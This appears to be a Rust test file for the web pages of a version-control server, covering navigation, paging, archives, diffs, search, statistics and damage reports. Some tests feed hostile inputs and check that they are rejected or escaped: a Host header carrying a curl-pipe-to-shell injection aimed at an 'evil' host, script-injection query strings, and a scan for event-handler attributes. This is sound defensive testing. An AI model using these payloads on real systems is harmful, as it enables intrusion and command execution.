//! Tests of the pages without JavaScript.

use reqwest::StatusCode;
use snap_core::{
    base::{
        id::{CommitId, PackId},
        observe::Silent,
        time::Time,
    },
    disk::Disk,
    ops::commit,
    repo::{Config, Repo, ref_name::RefName, refs::RefLogMessage},
};
use snap_server::settings::ServerSettings;

use crate::{
    hostile,
    place::{Place, Serving, refused},
};

/// The response that a browser gets.
pub(crate) struct Answer {
    pub(crate) status: StatusCode,
    pub(crate) headers: reqwest::header::HeaderMap,
    pub(crate) text: String,
}

/// Sends a request as a browser does.
pub(crate) async fn ask(serving: &Serving, path: &str) -> Answer {
    let accept = "text/html,application/xhtml+xml,*/*;q=0.8";
    let request = serving.client.get(format!("{}{path}", serving.origin()));
    let response = request.header("accept", accept).send().await.unwrap();
    let (status, headers) = (response.status(), response.headers().clone());
    Answer {
        status,
        headers,
        text: String::from_utf8(response.bytes().await.unwrap().to_vec()).unwrap(),
    }
}

/// Fetches a page and checks that it exists.
pub(crate) async fn page(serving: &Serving, path: &str) -> String {
    let answer = ask(serving, path).await;
    assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
    answer.text
}

#[tokio::test(flavor = "multi_thread")]
async fn links_lead_from_the_repository_list_to_a_file() {
    let place = Place::new();
    place.change("main.rs", "fn main() {}\n");
    let id = place.change("sub/notes & more.txt", "a < b\n");
    let serving = Serving::of(&place);
    let home = page(&serving, "/").await;
    assert!(home.contains("href=\"/r/default\""), "{home}");
    let log = page(&serving, "/r/default").await;
    assert!(log.contains(&format!("href=\"/r/default/c/{id}\"")), "{log}");
    assert!(log.contains("snap clone http://127.0.0.1:"), "{log}");
    let commit = page(&serving, &format!("/r/default/c/{id}")).await;
    assert!(commit.contains(&format!("href=\"/r/default/c/{id}/sub\"")), "{commit}");
    assert!(commit.contains("ada") && commit.contains("laptop"), "{commit}");
    let zip = format!("href=\"/v1/repos/default/commits/{id}/archive.zip\"");
    assert!(commit.contains(&zip), "{commit}");
    let folder = page(&serving, "/r/default/c/main/sub").await;
    let file = "/r/default/c/main/sub/notes%20%26%20more.txt";
    assert!(folder.contains(&format!("href=\"{file}\"")), "{folder}");
    let shown = page(&serving, file).await;
    assert!(shown.contains("a &lt; b") && shown.contains("notes &amp; more.txt"), "{shown}");
    let code = page(&serving, "/r/default/c/main/main.rs").await;
    assert!(code.contains("<span class=\"hk\">fn</span>"), "{code}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_list_of_commits_shows_labels() {
    let place = Place::new();
    place.change("a", "first");
    fs_err::write(place.folder.path().join("files/a"), "second").unwrap();
    let labels = [("ci", "118"), ("nightly", "")];
    let labels = labels.map(|(key, value)| (key.to_owned(), value.to_owned())).into();
    let options = commit::CommitOptions { labels, ..Default::default() };
    let source = commit::CommitSource::Folder(place.folder.path().join("files"));
    let id = commit::run(&place.repo, source, &options, &Silent).unwrap().id.unwrap();
    let serving = Serving::of(&place);
    let log = page(&serving, "/r/default").await;
    let row = |id: CommitId| {
        let link = format!("href=\"/r/default/c/{id}\"");
        log.split("<tr role=\"row\">").find(|row| row.contains(&link)).unwrap()
    };
    let first = place.repo.store().commit(&id).unwrap().parents[0];
    for label in
        ["<span class=\"chip label\">ci=118</span>", "<span class=\"chip label\">nightly</span>"]
    {
        assert!(row(id).contains(label), "{label}: {log}");
        assert!(!row(first).contains(label), "{label}: {log}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_folder_can_be_downloaded_in_each_archive_format() {
    let place = Place::new();
    let id = place.change("sub/of it/a", "content");
    let serving = Serving::of(&place);
    let at_top = page(&serving, "/r/default").await;
    assert!(!at_top.contains("/archive."), "{at_top}");
    for (path, of) in [("", ""), ("/sub/of%20it", "?path=sub%2Fof%20it")] {
        let shown = page(&serving, &format!("/r/default/c/main{path}")).await;
        for (form, kind, begins) in [
            ("zip", "application/zip", &b"PK\x03\x04"[..]),
            ("tar", "application/x-tar", b""),
            ("tar.zst", "application/zstd", b"\x28\xb5\x2f\xfd"),
        ] {
            let link = format!("/v1/repos/default/commits/{id}/archive.{form}{of}");
            assert!(shown.contains(&format!("href=\"{link}\"")), "{link}: {shown}");
            let saved = serving.client.get(format!("{}{link}", serving.origin()));
            let saved = saved.send().await.unwrap();
            assert_eq!(saved.status(), StatusCode::OK, "{link}");
            assert_eq!(saved.headers()["content-type"], kind, "{link}");
            let bytes = saved.bytes().await.unwrap();
            assert!(bytes.starts_with(begins), "{link}");
            let has_magic = bytes.get(257..262) == Some(&b"ustar"[..]);
            assert_eq!(has_magic, form == "tar", "{link}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn empty_binary_image_and_large_files_are_shown() {
    let place = Place::new();
    place.change("empty", "");
    place.change("core", [b"\0\x01ELF".as_slice(), &[7; 5000]].concat());
    place.change("dot.png", hostile::PNG);
    let id = place.change("large.txt", "0123456789abcde\n".repeat(200_000));
    let serving = Serving::of(&place);
    let of = async |name: &str| page(&serving, &format!("/r/default/c/main/{name}")).await;
    assert!(of("empty").await.contains("This file is empty"));
    let hex = of("core").await;
    assert!(
        hex.contains("00 01 45 4c 46") && hex.contains("The first 1.0 KiB of 4.9 KiB"),
        "{hex}"
    );
    let raw = format!("<img src=\"/v1/repos/default/commits/{id}/files/dot.png\" alt=\"dot.png\">");
    assert!(of("dot.png").await.contains(&raw));
    let large = of("large.txt").await;
    assert!(large.contains("The file has 3.1 MiB.") && large.len() < 20 << 20, "{}", large.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn lists_are_paged() {
    let place = Place::new();
    let ids: Vec<_> = (0..52).map(|n| place.change("a", format!("{n}"))).collect();
    let serving = Serving::of(&place);
    let (first, second) =
        (page(&serving, "/r/default").await, page(&serving, "/r/default?rev=main&page=2").await);
    let link = |id| format!("<a class=\"subject\" data-go=\"\" href=\"/r/default/c/{id}\"");
    assert!(first.contains(&link(ids[51])) && first.contains(&link(ids[2])));
    assert!(!first.contains(&link(ids[1])) && second.contains(&link(ids[1])));
    assert!(first.contains("rel=\"next\" href=\"/r/default?rev=main&amp;page=2\""), "{first}");
    assert!(second.contains("rel=\"prev\" href=\"/r/default?rev=main\""), "{second}");
    for name in 0..1001 {
        fs_err::write(place.folder.path().join(format!("files/f{name:04}")), "").unwrap();
    }
    place.change("a", "last");
    let first = page(&serving, "/r/default/c/main").await;
    assert!(first.contains("f0998") && !first.contains("f0999"), "the name `a` comes first");
    let second = page(&serving, "/r/default/c/main?page=2").await;
    assert!(!second.contains("f0998") && second.contains("f1000"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_beyond_the_last_one_names_the_last_page() {
    let place = Place::new();
    for n in 0..52 {
        place.change("a", format!("{n}"));
    }
    for name in 0..1001 {
        fs_err::write(place.folder.path().join(format!("files/f{name:04}")), "").unwrap();
    }
    place.change("a", "last");
    let serving = Serving::of(&place);
    for (path, last) in [
        ("/r/default?rev=main&page=5", 2),
        ("/r/default/c/main?page=5", 2),
        ("/r/default/history/main/a?page=5", 2),
        ("/r/default/refs?page=5", 1),
        ("/?page=5", 1),
    ] {
        let answer = ask(&serving, path).await;
        assert_eq!(answer.status, 404, "{path}");
        let told = format!("page 5 does not exist; the last page is {last}");
        assert!(answer.text.contains(&told), "{path}: {}", answer.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn damage_is_found_in_each_of_many_repositories() {
    let folder = tempfile::tempdir().unwrap();
    for number in 0..103 {
        let dir = folder.path().join(format!("r{number:03}"));
        Repo::init(&dir, &Disk::default(), &Config::default()).unwrap();
    }
    let id = CommitId::of(b"none");
    fs_err::write(folder.path().join("r102/refs/heads/main"), format!("{id}\nand more\n")).unwrap();
    let serving = Serving::over(folder.path());
    let first = page(&serving, "/").await;
    assert!(first.contains("103 repositories") && first.contains("href=\"/?page=2\""), "{first}");
    assert!(first.contains("r099") && !first.contains("r100"), "{first}");
    let second = page(&serving, "/?page=2").await;
    assert_eq!(second.matches("No commits yet").count(), 3, "{second}");
    assert_eq!(second.matches("The branch <bdi>main</bdi> is damaged").count(), 1, "{second}");
    // Monitoring reports the damage as well.
    let get = |path: &str| serving.client.get(format!("{}{path}", serving.origin()));
    let ready = get("/ready").send().await.unwrap();
    assert_eq!(ready.status(), 200, "one damaged repository does not make the server unready");
    assert_eq!(ready.text().await.unwrap(), "ready\n1 repository is damaged\n");
    let metrics = get("/metrics").send().await.unwrap().text().await.unwrap();
    assert!(metrics.contains("snap_damage_met_total{repository=\"r102\"} 1"), "{metrics}");
}

#[tokio::test(flavor = "multi_thread")]
async fn commands_show_the_public_address_or_a_valid_host() {
    let place = Place::new();
    let shown = async |serving: &Serving, host: &str| {
        let ask = serving.client.get(format!("{}/r/default", serving.origin()));
        let ask = ask.header("host", host).header("accept", "text/html");
        ask.send().await.unwrap().text().await.unwrap()
    };
    let open =
        ServerSettings { without_tokens_anyone_may_read_and_write: true, ..Default::default() };
    let serving = Serving::start(&place, open.clone());
    assert!(shown(&serving, "a.example:80").await.contains("snap push http://a.example:80 main"));
    let made_up = shown(&serving, "x;curl${IFS}evil|sh").await;
    assert!(
        made_up.contains("the `Host` header is not a valid host") && !made_up.contains("curl"),
        "{made_up}"
    );
    let public_url = Some("https://snap.example.org/".to_owned());
    let serving = Serving::start(&place, ServerSettings { public_url, ..open });
    let told = shown(&serving, "a.example").await;
    assert!(told.contains("snap push https://snap.example.org main"), "{told}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_empty_repository_shows_the_push_command() {
    let place = Place::new();
    let serving = Serving::of(&place);
    let shown = page(&serving, "/r/default").await;
    assert!(shown.contains("No commits yet"), "{shown}");
    assert!(shown.contains(&format!("snap push {} main", serving.origin())), "{shown}");
    assert!(page(&serving, "/").await.contains("No commits yet"));
    assert!(page(&serving, "/r/default/c/HEAD").await.contains("No commits yet"));
}

/// Moves a ref.
fn point(place: &Place, name: &str, (from, to): (Option<CommitId>, Option<CommitId>)) {
    let change = RefLogMessage { time: Time::now(), who: "ada", reason: "test" };
    let name = RefName::parse_full(name).unwrap();
    place.repo.refs().update(&name, from, to, &change).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_show_an_existing_branch_if_head_is_unborn() {
    let place = Place::new();
    let id = place.change("a", "content");
    point(&place, "refs/heads/trunk", (None, Some(id)));
    point(&place, "refs/heads/main", (Some(id), None));
    let serving = Serving::of(&place);
    let log = page(&serving, "/r/default").await;
    assert!(log.contains("selected>trunk</option>"), "{log}");
    let branches = page(&serving, "/r/default/refs").await;
    assert!(branches.contains("<a href=\"/r/default/c/HEAD\">Files</a>"), "{branches}");
    let files = page(&serving, "/r/default/c/HEAD").await;
    assert!(files.contains("href=\"/r/default/c/trunk/a\""), "{files}");
}

/// Percent-encodes a name as addresses do.
fn escaped(name: &[u8]) -> String {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"-._~".contains(byte);
    let one = |byte: &u8| match plain(byte) {
        true => char::from(*byte).to_string(),
        false => format!("%{byte:02X}"),
    };
    name.iter().map(one).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_and_contents_are_escaped() {
    let place = Place::new();
    let before = place.change("a", "content");
    hostile::fill(&place);
    let after = place.change("a", "other");
    for name in hostile::REFS {
        point(&place, name, (None, Some(after)));
    }
    let serving = Serving::of(&place);
    let mut paths: Vec<String> = vec![
        "/r/default/c/main/hostile".into(),
        format!("/r/default/diff?from={before}&to={after}"),
        "/r/default/search?q=*".into(),
        "/r/default/search?q=%3Cscript%3E".into(),
        "/r/default/search?q=%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E".into(),
        "/r/default?rev=%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E".into(),
        "/r/%3Cscript%3Ewindow.pwned=1%3C%2Fscript%3E".into(),
        "/r/default/stats".into(),
        "/r/default/refs".into(),
        "/r/default".into(),
        "/r/default/c/main".into(),
        "/r/default?rev=main%E2%80%AEtxt".into(),
        "/r/default/c/main%E2%80%AEtxt".into(),
    ];
    let others = ["page.html", "picture.svg", "README.md"].map(|name| name.as_bytes().to_vec());
    for name in hostile::names().into_iter().chain(others) {
        let name = escaped(&name);
        paths.push(format!("/r/default/c/main/hostile/{name}"));
        paths.push(format!("/r/default/history/main/hostile/{name}"));
    }
    for path in paths {
        let answer = ask(&serving, &path).await;
        let text = &answer.text;
        let is_there = !path.contains("?rev=%22") && !path.starts_with("/r/%3C");
        assert_eq!(answer.status.is_success(), is_there, "{path}: {text}");
        assert_eq!(text.matches("<script").count(), 1, "{path}: {text}");
        for tag in text.split('<').skip(1) {
            let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
            let quoted = tag.split('"').step_by(2).collect::<String>();
            assert!(!quoted.contains("onerror") && !quoted.contains("onload"), "{path}: <{tag}>");
            assert!(!quoted.contains("onmouse") && !quoted.contains("onfocus"), "{path}: <{tag}>");
            assert!(!tag.contains("href=\"javascript:"), "{path}: <{tag}>");
        }
        for hidden in ['\u{202e}', '\u{200b}', '\u{1b}'] {
            // The `value` of an option is not visible.
            let mut parts = text.split("<option value=\"");
            let first = parts.next().into_iter();
            let mut shown = first.chain(parts.filter_map(|part| Some(part.split_once('>')?.1)));
            assert!(shown.all(|shown| !shown.contains(hidden)), "{path} has {hidden:?}");
        }
    }
    let list = page(&serving, "/r/default/c/main/hostile").await;
    for shown in ["\\u{202e}", "\\u{200b}", "\\xff", "\\n", "\\u{1b}", "&amp;lt;b&amp;gt;"] {
        assert!(list.contains(shown), "{shown}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tag_named_like_a_branch_links_to_the_tag() {
    let place = Place::new();
    let tagged = place.change("a", "first");
    point(&place, "refs/tags/main", (None, Some(tagged)));
    place.change("a", "second");
    let serving = Serving::of(&place);
    for path in ["/r/default", "/r/default/refs"] {
        let shown = page(&serving, path).await;
        assert!(shown.contains("href=\"/r/default?rev=tags%2Fmain\""), "{path}: {shown}");
    }
    let log = page(&serving, "/r/default?rev=tags%2Fmain").await;
    assert!(log.contains("<option value=\"tags/main\" selected>main</option>"), "{log}");
    assert!(page(&serving, "/r/default/c/tags%2Fmain").await.contains(&tagged.to_string()));
}

#[tokio::test(flavor = "multi_thread")]
async fn two_commits_are_compared() {
    let place = Place::new();
    place.change("kept", "same\n");
    place.change("moved", "the same content under another name\n");
    let before = place.change("text", "one\ntwo\nthree\n");
    fs_err::rename(
        place.folder.path().join("files/moved"),
        place.folder.path().join("files/new name"),
    )
    .unwrap();
    place.change("bytes", b"\0\x01");
    let after = place.change("text", "one\n2 < 3\nthree");
    let serving = Serving::of(&place);
    let shown = page(&serving, &format!("/r/default/diff?from={before}&to={after}")).await;
    for part in [
        "1 added",
        "1 modified",
        "1 renamed",
        "2 &lt; 3",
        "<td class=\"sign\">−</td><td>two</td>",
        "<span class=\"unseen\">modified</span>",
        "no newline at end",
        "Binary file: 0 B before, 2 B now.",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert!(!shown.contains("kept"), "{shown}");
    let part = page(&serving, &format!("/r/default/diff?from={before}&to={after}&path=text")).await;
    assert!(part.contains("1 change<") && !part.contains("new name"), "{part}");
    let same = page(&serving, "/r/default/diff?from=main&to=HEAD").await;
    assert!(same.contains("Nothing differs"), "{same}");
    let form = page(&serving, "/r/default/diff").await;
    assert!(form.contains("<input class=\"field\" name=\"from\""), "{form}");
    assert_eq!(ask(&serving, "/r/default/diff?from=main&to=nothing").await.status, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn paths_are_found_and_have_a_history() {
    let place = Place::new();
    let first = place.change("sub/notes.txt", "the first of two versions\n");
    let second = place.change("sub/notes.txt", "the second of two versions\n");
    let files = place.folder.path().join("files");
    fs_err::rename(files.join("sub/notes.txt"), files.join("sub/memo.txt")).unwrap();
    let third = place.change("other", "x");
    fs_err::remove_file(files.join("other")).unwrap();
    place.change("last", "x");
    let serving = Serving::of(&place);
    let found = page(&serving, "/r/default/search?q=NOTES").await;
    assert!(found.contains(&format!("/r/default/c/{second}/sub/notes.txt")), "{found}");
    assert!(found.contains("2 versions"), "{found}");
    for (query, answer) in [
        ("*.txt", "2 paths"),
        ("sub/**", "2 paths"),
        ("other", "1 path"),
        ("nothing", "No commit contains a matching path"),
        ("%5B", "The pattern is not valid"),
        ("", "A part of a name, or a pattern"),
        ("%ff", "No commit contains a matching path"),
    ] {
        let found = page(&serving, &format!("/r/default/search?q={query}")).await;
        assert!(found.contains(answer), "{query}: {found}");
    }
    let history = page(&serving, "/r/default/history/main/sub/memo.txt").await;
    for id in [first, second] {
        assert!(history.contains(&format!("/r/default/c/{id}/sub/notes.txt")), "{history}");
    }
    assert!(history.contains(&format!("/r/default/c/{third}/sub/memo.txt")), "{history}");
    assert!(history.contains("was <bdi>sub/notes.txt"), "{history}");
    for page in ["", "?page=2"] {
        let never = format!("/r/default/history/main/never{page}");
        assert_eq!(ask(&serving, &never).await.status, 404, "{page}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn statistics_are_computed_and_drawn() {
    let place = Place::new();
    let noise: Vec<u8> =
        (0..40_000u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    place.change("a", &noise);
    place.change("b", &noise);
    let id = place.change("text", "0123456789\n".repeat(10_000));
    let serving = Serving::of(&place);
    let shown = page(&serving, "/r/default/stats").await;
    assert!(
        shown.contains("<svg viewBox=\"0 0 960 300\" role=\"img\" aria-label=\"After 3 commits"),
        "{shown}"
    );
    // Full copies: `a` in three commits, `b` in two, the text in one. After
    // deduplication: the 160,000 bytes and the text, each once.
    for part in ["<dd>888.7 KiB</dd>", "<dd>263.7 KiB</dd>", "30 % of that"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    let log = page(&serving, "/r/default").await;
    let row = log.split("<tr role=\"row\">").find(|row| row.contains(&id.to_string())).unwrap();
    assert!(row.contains("<td class=\"number gain\" role=\"cell\">+"), "{row}");
    let refs = page(&serving, "/r/default/refs").await;
    assert!(refs.contains("<bdi>main</bdi></a>") && refs.contains("default"), "{refs}");
}

#[tokio::test(flavor = "multi_thread")]
async fn page_sizes_are_bounded_for_any_content() {
    let place = Place::new();
    let odd = "\u{1}a".repeat(100_000);
    let before = place.change("lines", "\n".repeat(1 << 21));
    for name in 0..30 {
        let path = place.folder.path().join(format!("files/odd{name:02}"));
        fs_err::write(path, odd.repeat(3)).unwrap();
    }
    let labels = (0..200).map(|n| (format!("{n}"), odd[..1000].to_owned())).collect();
    let (message, author, host) = (odd.clone(), odd.clone(), odd);
    let options = commit::CommitOptions { message, author, host, labels, ..Default::default() };
    let source = commit::CommitSource::Folder(place.folder.path().join("files"));
    let after = commit::run(&place.repo, source, &options, &Silent).unwrap().id.unwrap();
    let serving = Serving::of(&place);
    for (path, most) in [
        ("/".to_owned(), 50_000),
        ("/r/default".to_owned(), 500_000),
        ("/r/default/refs".to_owned(), 50_000),
        ("/r/default/stats".to_owned(), 50_000),
        ("/r/default/history/main/odd00".to_owned(), 50_000),
        ("/r/default/c/main".to_owned(), 3_000_000),
        ("/r/default/c/main/lines".to_owned(), 3_000_000),
        ("/r/default/c/main/odd00".to_owned(), 8_000_000),
        (format!("/r/default/diff?from={before}&to={after}"), 6_000_000),
    ] {
        let length = page(&serving, &path).await.len();
        assert!(length < most, "{path}: {length}");
    }
    let long = "a/".repeat(3000);
    assert_eq!(ask(&serving, &format!("/r/default/c/main/{long}")).await.status, 400);
}

/// Overwrites all frames of a pack with zeros.
pub(crate) fn damage(place: &Place, id: &PackId) {
    let store = place.repo.store();
    let (outline, path) = (store.outline(id).unwrap(), store.pack_path(id));
    let mut bytes = fs_err::read(&path).unwrap();
    let end = bytes.len() - outline.tail.len();
    bytes[outline.head.len()..end].fill(0);
    fs_err::remove_file(&path).unwrap();
    fs_err::write(&path, bytes).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn damage_is_reported_on_every_page_of_a_list() {
    let place = Place::new();
    place.change("a", "first");
    let before = place.repo.store().packs();
    place.change("a", "second");
    let packs = place.repo.store().packs();
    let last = place.change("a", "third");
    damage(&place, packs.iter().find(|id| !before.contains(id)).unwrap());
    let serving = Serving::of(&place);
    for path in [
        "/r/default",
        "/r/default?rev=main&page=2",
        "/r/default/history/main/a",
        "/r/default/history/main/a?page=2",
    ] {
        let answer = ask(&serving, path).await;
        assert_eq!(answer.status, 500, "{path}");
        assert!(answer.text.contains("The store is damaged"), "{path}: {}", answer.text);
    }
    for path in [format!("log?cursor={last}.2"), format!("log?path=a&cursor={last}.2")] {
        refused(serving.get(&path), 500, "damaged").await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn statistics_that_cannot_be_computed_are_reported() {
    let place = Place::new();
    place.change("a", "first");
    let before = place.repo.store().packs();
    place.change("a", "second");
    damage(&place, &before[0]);
    let serving = Serving::of(&place);
    for _ in 0..2 {
        let shown = page(&serving, "/r/default/stats").await;
        assert!(shown.contains("<h1>Statistics are not available</h1>"), "{shown}");
    }
}
